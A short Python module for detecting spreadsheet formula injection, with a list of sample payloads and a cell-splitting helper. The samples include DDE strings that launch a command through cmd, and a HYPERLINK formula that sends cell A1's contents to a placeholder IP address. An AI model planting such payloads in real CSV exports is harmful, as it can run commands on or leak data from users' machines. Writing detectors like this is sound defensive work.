"""Words that a spreadsheet would run, and how one is known."""

import csv
import io
import re

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "%0A=1+1",
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "a;=1+1",
    "a;  @SUM(A1)",
    "a\t=1+1",
    "a\n=1+1",
    '";=1+1',
    "=1+1\x00",
]
_RUN = re.compile("[\\s\x00-\x20\u200b-\u200f\u2060\ufeff]*[=+@|%\uff1d\uff0b\uff0d\uff20-]")
_NUMBER = re.compile(r"-?[0-9][0-9,.]*")


def is_run(cell: str) -> bool:
    """Return whether a spreadsheet runs what is in the cell."""
    return _RUN.match(cell) is not None and _NUMBER.fullmatch(cell) is None


def cells_of(text: str, mark: str) -> list[str]:
    """Return all cells that a spreadsheet finds which looks for this mark between them."""
    text = text.removeprefix("\ufeff")
    if mark != ",":
        # A line then ends in the middle of what was one cell.
        text = text.replace("\r", "\n")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark) for cell in row]
